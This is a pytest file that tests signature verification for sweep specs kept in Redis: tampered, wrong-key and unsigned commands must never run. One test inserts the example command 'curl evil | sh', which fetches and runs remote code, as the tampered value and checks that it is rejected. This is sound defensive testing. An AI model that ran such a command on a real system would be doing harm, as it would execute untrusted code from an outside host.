"""Signed sweep specs: a command rewritten in Redis by someone without the key never runs."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from coordination.dispatch import CeleryDispatcher
from coordination.runtime import signing
from coordination.runtime.context import Runtime
from coordination.sweeps import SweepService
from tests.unit.support.sweeps import PLAN, fresh_runtime, write_catalog
from tests.unit.support.sweeps import StubApp
from workers.runner import Outcome, WorkerInfo, run_todo

pytestmark = pytest.mark.timeout(60)

W = WorkerInfo(repo=None, name="test-worker")
SPEC = json.dumps({"todos": {"TODO-001": {"run": "make test"}}, "plan": "PLAN-001"})


def test_roundtrip_and_every_kind_of_mismatch() -> None:
    rec = {"spec": SPEC, **signing.sign(SPEC, "k1")}
    assert signing.verify(rec, ["k1"]) is None
    # Key order and spacing are not part of what is signed.
    assert signing.verify({**rec, "spec": json.dumps(json.loads(SPEC), indent=2)}, ["k1"]) is None
    changed = {**rec, "spec": SPEC.replace("make test", "curl evil | sh")}
    assert "changed after it was signed" in (signing.verify(changed, ["k1"]) or "")
    assert "does not hold" in (signing.verify(rec, ["k2"]) or "")
    assert "unsigned" in (signing.verify({"spec": SPEC}, ["k1"]) or "")
    # Rotation: the previous key still verifies.
    assert signing.verify(rec, ["k2", "k1"]) is None
    for why in (signing.verify(changed, ["k1"]), signing.verify(rec, ["k2"])):
        assert why is not None and why.startswith("spec signature invalid") and "k1" not in why


@pytest.fixture
def signed_rt(monkeypatch: pytest.MonkeyPatch) -> Iterator[Runtime]:
    from coordination.runtime.client import reset_embedded
    from coordination.runtime.context import get_runtime

    monkeypatch.setenv("COORD_SIGNING_KEY", "s3cret-signing-key")
    runtime = fresh_runtime()
    runtime.dispatcher = CeleryDispatcher(StubApp(), runtime.keys)
    yield runtime
    reset_embedded()
    get_runtime.cache_clear()


def start(rt: Runtime, tmp_path: Path, marker: Path) -> str:
    cat = write_catalog(tmp_path / "eco", [
        {"id": "TODO-001", "repo": "api", "run": f"touch {marker}"},
        {"id": "TODO-002", "repo": "api", "run": "true", "blocked_by": ["TODO-001"]},
    ], repos=("api",))
    return SweepService(rt, cat).start(PLAN, strategy="levels", ignore_blockers=True)


def test_signed_spec_runs(signed_rt: Runtime, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    sid = start(signed_rt, tmp_path, marker)
    rec = signed_rt.checkpoints.get_sweep(sid) or {}
    assert rec["spec_key_id"] == signing.key_id("s3cret-signing-key")
    assert "s3cret" not in json.dumps(rec)
    outcome, detail = run_todo(signed_rt, sid, "TODO-001", W)
    assert detail["status"] == "succeeded" and marker.exists()


def test_command_rewritten_in_redis_never_runs(signed_rt: Runtime, tmp_path: Path) -> None:
    marker, evil = tmp_path / "ran", tmp_path / "pwned"
    sid = start(signed_rt, tmp_path, marker)
    key = signed_rt.keys.sweep(sid)
    spec = json.loads(json.loads(signed_rt.redis.hget(key, "spec")))
    spec["todos"]["TODO-001"]["run"] = f"touch {evil}"
    signed_rt.redis.hset(key, "spec", json.dumps(json.dumps(spec)))  # fields hold JSON text
    from coordination.sweeps.spec_store import _spec_cache

    _spec_cache.clear()  # a worker that never saw the honest spec
    outcome, detail = run_todo(signed_rt, sid, "TODO-001", W)
    assert outcome is Outcome.done and detail["status"] == "failed"
    assert not evil.exists() and not marker.exists()
    cp = signed_rt.checkpoints.get(sid, "TODO-001") or {}
    assert cp["status"] == "failed" and cp["reason"].startswith("spec signature invalid")
    evs = [e for e in signed_rt.events.read(sweep_id=sid) if e.todo_id == "TODO-001"]
    assert any(e.kind == "todo.failed" and e.data.get("refused") for e in evs)
    assert (signed_rt.checkpoints.get(sid, "TODO-002") or {})["status"] == "skipped"


def test_unsigned_spec_is_refused_by_a_worker_with_a_key(
    signed_rt: Runtime, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = tmp_path / "ran"
    sid = start(signed_rt, tmp_path, marker)
    signed_rt.checkpoints.update_sweep(sid, spec_sig=None, spec_key_id=None)
    outcome, detail = run_todo(signed_rt, sid, "TODO-001", W)
    assert detail["status"] == "failed" and "unsigned" in detail["reason"]
    assert not marker.exists()
